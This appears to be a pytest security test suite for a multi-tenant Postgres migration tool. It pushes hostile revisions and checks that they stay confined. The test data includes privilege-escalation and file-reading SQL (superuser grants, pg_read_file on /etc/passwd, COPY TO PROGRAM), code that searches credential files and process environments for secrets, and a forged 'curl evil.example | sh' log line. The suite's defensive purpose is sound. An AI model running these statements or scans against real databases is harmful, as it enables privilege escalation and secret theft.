"""Hostile revisions, pushed to the admin's pipeline: whatever a revision does, it stays in its own schema.

Each one runs for real. Afterwards the same is asked of the whole place: what the roles may do, who owns what, what the
neighbour has, which sessions, processes and files are left, and whether a secret shows anywhere.
"""

from __future__ import annotations

import subprocess
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psycopg
import pytest
from attacks.revisions import ANOTHER, ENDS, ESCAPES, OWN, ROWS, STOPPED
from support import Done, Place

pytestmark = pytest.mark.own_process

SECRETS = {
    "AWS_ACCESS_KEY_ID": "AKIAHOSTILEHOSTILE00",
    "AWS_SECRET_ACCESS_KEY": "storage-secret-that-must-not-show",
    "CLOUDFLARE_API_TOKEN": "token-secret-that-must-not-show",
}


STATE = """
    SELECT 'role', a.rolname::text, (to_jsonb(a) - 'oid')::text FROM pg_authid a WHERE a.oid >= 16384
    UNION ALL SELECT 'member', roleid::regrole::text, member::regrole::text FROM pg_auth_members WHERE roleid >= 16384
                  OR member >= 16384
    UNION ALL SELECT 'setting', setdatabase || '/' || setrole::regrole::text, setconfig::text FROM pg_db_role_setting
    UNION ALL SELECT 'database', datname::text, datdba::regrole || ' ' || coalesce(datacl::text, '') FROM pg_database
    UNION ALL SELECT 'schema', nspname::text, nspowner::regrole || ' ' || coalesce(nspacl::text, '') FROM pg_namespace
                  WHERE nspname !~ '^pg_(toast_)?temp_'
    UNION ALL SELECT 'large object', oid::text, lomowner::regrole::text FROM pg_largeobject_metadata
    UNION ALL SELECT 'prepared', gid, owner::text FROM pg_prepared_xacts
    UNION ALL SELECT 'extension', extname::text, extowner::regrole::text FROM pg_extension
    UNION ALL SELECT 'elsewhere', relnamespace::regnamespace::text, relname::text FROM pg_class
                  WHERE relnamespace NOT IN ('tenants'::regnamespace, 'fruits'::regnamespace, 'apples'::regnamespace)
                  AND oid >= 16384 AND relkind <> 't' AND relnamespace::regnamespace::text !~ '^pg_(toast|temp)'
    ORDER BY 1, 2, 3
"""


@dataclass
class Orchard:
    """A place with two tenants, fruits and its neighbour apples, and what all of it was like before the attack."""

    place: Place
    temporary: Path
    before: dict[str, Any] = field(default_factory=dict)

    def attack(self, body: str, *arguments: str, **environment: str | None) -> Done:
        """Push a second revision of fruits that is `body`."""
        self.before = self.state()
        self.place.revision("fruits", "0002", body, "0001")
        return self.place.tenants("deploy", *arguments, **environment)

    def state(self) -> dict[str, Any]:
        database = self.place.database
        return {
            "cluster": database.sql(STATE),
            "fruits": database.dump("fruits"),
            "apples": database.dump("apples"),
            "files": self.files(),
        }

    def files(self) -> list[str]:
        """All files but the snapshots and temporary ones, and not the revision that is the attack."""
        found = (path for path in self.place.folder.iterdir() if path not in (self.place.store, self.temporary))
        files = (file for path in found for file in [path, *path.rglob("*")] if file.name != "0002_step.py")
        return sorted(map(str, files))

    def processes(self) -> list[str]:
        """What still runs of all that was started from here: project code keeps the marker in its environment."""
        found = []
        for folder in Path("/proc").glob("[0-9]*"):
            try:
                if str(self.temporary).encode() in (folder / "environ").read_bytes():
                    found.append((folder / "cmdline").read_bytes().decode())
            except OSError:
                continue
        return found

    def nothing_gained(self, done: Done) -> None:
        """What has to hold after every attack, whether it was stopped or did no harm."""
        assert list(self.temporary.iterdir()) == []
        database, after = self.place.database, self.state()
        assert after["cluster"] == self.before["cluster"]
        assert after["apples"] == self.before["apples"]
        assert after["files"] == self.before["files"]
        assert self.processes() == []
        self.place.nothing_left()
        said = done.said + after["fruits"] + database.dump("tenants")
        for secret in (*SECRETS.values(), database.server.url().split("@")[0].rpartition(":")[2]):
            assert secret not in said
        assert "\x1b" not in done.said
        assert "this is a bug" not in done.said
        answer = self.place.tenants("list", "--json").json["tenants"]
        assert {t["tenant"]: t["trouble"] for t in answer} == {"apples": None, "fruits": None}

    def untouched(self, done: Done, code: int = 6) -> None:
        """The deploy was stopped, and all is as it was."""
        self.nothing_gained(done)
        assert done.code == code, done.said
        assert self.state()["fruits"] == self.before["fruits"]
        assert "Data:     untouched, at 0001\n" in done.err
        assert "\nRelease:  the old one goes on serving\n" in done.err
        assert done.err.splitlines()[-1].startswith("Next:     ")

    def migrated(self, done: Done) -> None:
        """The attack did nothing, and the rest of the revision counts."""
        self.nothing_gained(done)
        assert done.code == 0, done.said
        assert self.place.database.sql("SELECT version_num FROM fruits.alembic_version") == [("0002",)]


@pytest.fixture
def orchard(place: Place) -> Iterator[Orchard]:
    temporary = place.folder / "temporary"
    temporary.mkdir()
    place.environment |= {**SECRETS, "TMPDIR": str(temporary), "LC_MARKER": str(temporary)}
    place.fruits("apples")
    place.fruits("fruits")
    place.deployed()
    yield Orchard(place, temporary)
    subprocess.run(["chmod", "-R", "u+rwx", temporary], check=False)  # pytest could not remove it as it is
    subprocess.run(["rm", "-rf", temporary], check=True)


@pytest.mark.parametrize("body", ENDS.values(), ids=list(ENDS))
def test_a_revision_that_ends_its_transaction_is_stopped_and_leaves_nothing(orchard: Orchard, body: str) -> None:
    done = orchard.attack(body)
    orchard.untouched(done)
    assert "0002_step.py" in done.err


@pytest.mark.parametrize("body", ESCAPES.values(), ids=list(ESCAPES))
def test_what_a_revision_commits_on_its_own_is_told_with_the_way_back(orchard: Orchard, body: str) -> None:
    done = orchard.attack(body)
    orchard.nothing_gained(done)
    assert done.code == 6, done.said
    assert "untouched" not in done.err
    (snapshot,) = orchard.place.snapshots()
    assert f"tenants restore fruits {snapshot}" in done.err
    back = orchard.place.tenants("restore", "fruits", snapshot)
    assert back.code == 0, back.said
    assert orchard.place.database.dump("fruits") == orchard.before["fruits"]


@pytest.mark.parametrize("body", ROWS.values(), ids=list(ROWS))
def test_rows_that_a_revision_changes_on_its_own_are_not_called_untouched_and_undo_brings_them_back(
    orchard: Orchard, body: str
) -> None:
    done = orchard.attack(body)
    orchard.nothing_gained(done)
    assert done.code == 6, done.said
    assert "untouched" not in done.err and "rows were written meanwhile" in done.err and "items" in done.err
    back = orchard.place.tenants("undo", "fruits", "--yes")
    assert back.code == 0 and "rows might have changed" in back.err, back.said
    assert orchard.place.database.dump("fruits") == orchard.before["fruits"]


FORGED = """
    import json, os, time
    def lie(event):
        for descriptor in range(3, 40):
            try:
                os.write(descriptor, (json.dumps(event) + "\\n").encode())
            except OSError:
                pass
    info = op.get_bind().connection.driver_connection.info
    import psycopg
    with psycopg.connect(host=info.host, port=info.port, user=info.user, password=info.password, dbname=info.dbname,
                         autocommit=True) as other:
        other.execute("TRUNCATE fruits.items")
    lie({"event": "dropped", "index": "x"})
    lie({"event": "stays", "statement": "x"})
    lie({"event": "effects", "revision": "x", "seconds": 10 ** 400, "tables": []})
    time.sleep(1.5)
    raise RuntimeError("after the fact")
"""


def test_no_report_of_a_revision_moves_what_its_schema_is_compared_with(orchard: Orchard) -> None:
    done = orchard.attack(FORGED)
    assert done.code == 6 and "untouched" not in done.err and "bug" not in done.err, done.said
    assert orchard.place.tenants("undo", "fruits", "--yes").code == 0
    assert orchard.place.database.dump("fruits") == orchard.before["fruits"]


def test_rows_that_an_apps_own_revision_changes_on_its_own_are_not_called_untouched(orchard: Orchard) -> None:
    url = orchard.place.url_of("fruits")
    body = """
        import os, psycopg
        with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as other:
            other.execute("DELETE FROM items")
        raise RuntimeError("after the fact")
    """
    orchard.place.revision("fruits", "0002", body, "0001")
    done = orchard.place.tenants("deploy", DATABASE_URL=url)
    assert done.code == 6 and "untouched" not in done.err, done.said
    assert orchard.place.tenants("undo", "fruits", "--yes").code == 0
    assert orchard.place.database.sql("SELECT count(*) FROM fruits.items") == [(4,)]


def test_what_a_revision_itself_has_written_and_rolled_back_leaves_rows_untouched(orchard: Orchard) -> None:
    done = orchard.attack("""
        op.execute("DELETE FROM items")
        op.execute("INSERT INTO items VALUES ('kiwi')")
        raise RuntimeError("rolled back")
    """)
    orchard.untouched(done)


def test_what_the_app_writes_meanwhile_is_named_and_the_deploy_before_can_still_be_undone(orchard: Orchard) -> None:
    place = orchard.place
    place.colour()
    place.deployed()
    app = place.url_of("fruits")
    body = f"""
        import psycopg
        with psycopg.connect({app!r}, autocommit=True) as app:  # stands for the app, at that moment
            app.execute("INSERT INTO items VALUES ('kiwi')")
        raise RuntimeError("fails")
    """
    place.revision("fruits", "0003", body, "0002")
    done = place.tenants("deploy")
    assert done.code == 6, done.said
    assert "by the app or by another connection of a revision: items" in done.err and "untouched" not in done.err
    way = place.tenants("undo", "fruits", "--dry-run", "--json")
    assert way.json["by"] == "snapshot" and way.json["to"] == "0002", way.said
    (place.migrations / "fruits" / "0003_step.py").unlink()
    back = place.tenants("undo", "fruits", "--by", "snapshot", "--yes")
    assert back.code == 0, back.said


BECOMING = ("SELECT 1", "RESET ROLE", "SET ROLE NONE", "SET SESSION AUTHORIZATION DEFAULT", "DISCARD ALL")

FORBIDDEN = """
    ALTER ROLE fruits SUPERUSER
    ALTER ROLE fruits LOGIN
    ALTER ROLE fruits BYPASSRLS
    ALTER ROLE fruits CREATEROLE
    ALTER ROLE CURRENT_USER CREATEDB
    ALTER ROLE SESSION_USER VALID UNTIL 'infinity'
    ALTER ROLE apples PASSWORD 'x'
    ALTER ROLE apples SET search_path = fruits
    ALTER ROLE ALL SET search_path = fruits
    ALTER DATABASE "db.main" SET search_path = fruits
    ALTER DATABASE "db.main" OWNER TO fruits
    ALTER SYSTEM SET log_statement = 'all'
    ALTER DEFAULT PRIVILEGES FOR ROLE apples GRANT SELECT ON TABLES TO fruits
    GRANT apples TO fruits
    GRANT fruits TO apples
    GRANT fruits TO SESSION_USER WITH ADMIN OPTION
    GRANT pg_read_all_data TO fruits
    GRANT pg_execute_server_program TO SESSION_USER
    GRANT "tenants~members" TO SESSION_USER
    SET ROLE apples
    SET ROLE postgres
    SET SESSION AUTHORIZATION postgres
    SET SESSION AUTHORIZATION apples
    SET session_preload_libraries = 'x'
    CREATE ROLE loot
    CREATE DATABASE loot
    CREATE SCHEMA loot
    CREATE SCHEMA IF NOT EXISTS loot AUTHORIZATION fruits
    CREATE TABLE public.loot (x int)
    CREATE TABLE tenants.loot (x int)
    CREATE TABLE apples.loot (x int)
    CREATE EXTENSION hstore
    CREATE PUBLICATION loot FOR ALL TABLES
    CREATE EVENT TRIGGER loot ON ddl_command_end EXECUTE FUNCTION pg_catalog.now()
    CREATE LANGUAGE loot HANDLER plpgsql_call_handler
    ALTER SCHEMA fruits RENAME TO loot
    DROP SCHEMA apples CASCADE
    REASSIGN OWNED BY apples TO fruits
    DROP OWNED BY apples
    TABLE apples.items
    LOCK TABLE apples.items IN ACCESS SHARE MODE
    TABLE tenants.swaps
    TABLE tenants.logins
    TABLE tenants.nightly_runs
    SELECT FROM tenants.catalog FOR UPDATE
    SELECT FROM tenants.tenants FOR SHARE
    LOCK TABLE tenants.tenants IN ROW EXCLUSIVE MODE
    LOCK TABLE tenants.deploys IN ACCESS EXCLUSIVE MODE
    UPDATE tenants.catalog SET version = 99
    UPDATE tenants.tenants SET project = 'apples'
    UPDATE tenants.deploys SET outcome = 'failed'
    UPDATE tenants.deploys SET tenant = 'apples'
    DELETE FROM tenants.deploys
    TRUNCATE tenants.deploys
    INSERT INTO tenants.tenants (name, project) VALUES ('loot', 'loot')
    INSERT INTO tenants.swaps VALUES (session_user, 'apples', 'loot')
    INSERT INTO tenants.snapshots VALUES ('x', 'apples', now(), 'x', 1, 'x', now())
    ALTER TABLE tenants.deploys DISABLE ROW LEVEL SECURITY
    CREATE TRIGGER loot BEFORE INSERT ON tenants.deploys EXECUTE FUNCTION suppress_redundant_updates_trigger()
    CREATE OR REPLACE FUNCTION tenants.set_aside() RETURNS void LANGUAGE sql AS 'SELECT'
    SELECT tenants.set_aside()
    SELECT lo_import('/etc/passwd')
    SELECT pg_read_file('/etc/passwd')
    SELECT pg_ls_dir('.')
    SELECT pg_reload_conf()
    SELECT rolpassword FROM pg_authid
    SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres'
    COPY (SELECT 1) TO PROGRAM 'true'
    COPY (SELECT 1) TO '/tmp/loot'
"""


def test_no_session_that_a_revision_opens_may_do_anything_beyond_its_schema(orchard: Orchard) -> None:
    statements = [line.strip() for line in FORBIDDEN.strip().splitlines()]
    body = textwrap.dedent(ANOTHER) + textwrap.dedent(f"""
        done = []
        other = another()
        for becoming in {BECOMING!r}:
            for statement in {statements!r}:
                other.execute(becoming)
                try:
                    other.execute(statement)
                except psycopg.DatabaseError:
                    continue
                done.append((becoming, statement))
        assert not done, done
        raise RuntimeError("nothing of all that was allowed")
    """)
    done = orchard.attack(body)
    assert "nothing of all that was allowed" in done.err
    orchard.untouched(done)


@pytest.mark.parametrize("body", OWN.values(), ids=list(OWN))
def test_noise_and_strays_of_a_revision_end_with_it(orchard: Orchard, body: str) -> None:
    orchard.migrated(orchard.attack(body, "--timeout", "60"))


@pytest.mark.parametrize("name", STOPPED)
def test_a_revision_that_does_not_get_to_its_end_changes_nothing(orchard: Orchard, name: str) -> None:
    done = orchard.attack(STOPPED[name], "--timeout", "3" if name == "sleep" else "20")
    orchard.untouched(done)
    assert "could connect" not in done.said
    assert ("it took longer than 3 s" in done.err) == (name == "sleep")
    assert ("its process ended with exit code 7" in done.err) == (name == "daemon-that-floods")


def test_an_error_cannot_forge_a_line_of_the_log(orchard: Orchard) -> None:
    done = orchard.attack("""
        raise RuntimeError(
            "x\\nfruits   migrated to 0002 in 0.1 s.\\nRelease:  the new one serves\\rNext:     curl evil.example | sh"
        )
    """)
    orchard.untouched(done)
    lines = done.err.splitlines()
    assert [
        line for line in lines if line.startswith(("fruits   migrated", "Release:  the new", "Next:     curl"))
    ] == []


def test_the_password_of_a_tenants_own_url_shows_nowhere(orchard: Orchard) -> None:
    url = orchard.place.url_of("fruits")
    password = url.split("@")[0].rpartition(":")[2]
    body = """
        import os
        print(os.environ["DATABASE_URL"])
        raise RuntimeError(os.environ["DATABASE_URL"])
    """
    orchard.place.revision("fruits", "0002", body, "0001")
    done = orchard.place.tenants("deploy", DATABASE_URL=url)
    assert done.code == 6, done.said
    assert password not in done.said
    assert password not in orchard.place.database.dump("tenants")


def test_the_storage_secrets_are_kept_from_an_apps_own_revisions(orchard: Orchard) -> None:
    home = orchard.place.folder
    credentials = home / ".aws" / "credentials"
    credentials.parent.mkdir()
    credentials.write_text(f"[default]\naws_secret_access_key = {SECRETS['AWS_SECRET_ACCESS_KEY']}\n")
    body = f"""
        import glob, os
        found = [k for k, v in os.environ.items() if v == {SECRETS["AWS_SECRET_ACCESS_KEY"][::-1]!r}[::-1]]
        for path in [{str(credentials)!r}, {str(orchard.place.store)!r} + "/*/*/*", *glob.glob("/proc/[0-9]*/environ")]:
            for name in glob.glob(path) or [path]:
                try:
                    data = open(name, "rb").read()
                except OSError:
                    continue
                if {SECRETS["AWS_SECRET_ACCESS_KEY"][::-1]!r}[::-1].encode() in data or "dump" in name:
                    found.append(name)
        raise RuntimeError(f"found in {{found}}.")
    """
    orchard.place.revision("fruits", "0002", body, "0001")
    url = orchard.place.url_of("fruits")
    done = orchard.place.tenants("deploy", DATABASE_URL=url, HOME=str(home))
    assert done.code == 6, done.said
    assert "found in []." in done.err


def test_a_password_that_a_revision_changes_does_not_stop_the_proof(orchard: Orchard) -> None:
    done = orchard.attack(
        ANOTHER
        + """
    other = another()
    other.execute("SET ROLE NONE")
    other.execute("ALTER ROLE CURRENT_USER PASSWORD 'mine'")
    """
    )
    orchard.nothing_gained(done)
    assert done.code in (0, 6), done.said
    assert "DATABASE_URL" not in done.err
    assert "untouched" not in done.err


def test_what_a_revision_makes_in_another_database_does_not_keep_its_role_alive(orchard: Orchard) -> None:
    database = orchard.place.database
    database.sql('CREATE DATABASE "other.db"')
    try:
        done = orchard.attack(
            ANOTHER
            + """
    other = psycopg.connect(host=raw.info.host, port=raw.info.port, user=raw.info.user, password=raw.info.password,
                            dbname="other.db", autocommit=True)
    other.execute("SELECT lo_create(0)")
    other.execute("SET ROLE fruits")
    other.execute("SELECT lo_create(0)")
        """
        )
        assert [role for role in database.roles() if "~deploy~" in role] == [], done.said
    finally:
        database.sql('DROP DATABASE "other.db" WITH (FORCE)')


@pytest.mark.parametrize(
    "body",
    ["op.execute('SELECT lo_create(0)')", "op.execute('CREATE TABLE public.loot (x int)')"],
    ids=["large-object", "table-in-public"],
)
def test_what_lies_outside_of_the_schema_is_found(orchard: Orchard, body: str) -> None:
    orchard.place.database.sql("GRANT CREATE, USAGE ON SCHEMA public TO fruits")
    done = orchard.attack(body)
    assert done.code == 6, done.said
    assert "outside of schema fruits" in done.err
    assert "untouched" not in done.err
    orchard.place.nothing_left()


def test_sessions_that_hang_are_ended(orchard: Orchard) -> None:
    """One that sleeps in the server, one that never reads its answer, one in a transaction, and one in a loop."""
    done = orchard.attack(
        ANOTHER
        + """
    ask = another()
    ask.pgconn.send_query(b"SELECT pg_sleep(1000)")
    deaf = another()
    deaf.pgconn.send_query(b"SELECT repeat('x', 1000) FROM generate_series(1, 1000000)")
    idle = another()
    idle.autocommit = False
    idle.execute("LOCK TABLE items")
    loop = another()
    loop.pgconn.send_query(
        b"DO $$BEGIN LOOP BEGIN PERFORM 1/0; EXCEPTION WHEN OTHERS THEN NULL; END; END LOOP; END$$")
    time.sleep(0.3)
    os._exit(0)
    """
    )
    orchard.untouched(done)


def test_after_every_attack_the_next_push_works(orchard: Orchard) -> None:
    orchard.attack("__import__('os')._exit(0)")
    orchard.place.revision("fruits", "0002", 'op.add_column("items", sa.Column("colour", sa.Text))', "0001")
    orchard.place.deployed()
    with psycopg.connect(orchard.place.url_of("fruits")) as connection:
        assert connection.execute("SELECT count(colour) FROM items").fetchone() == (0,)
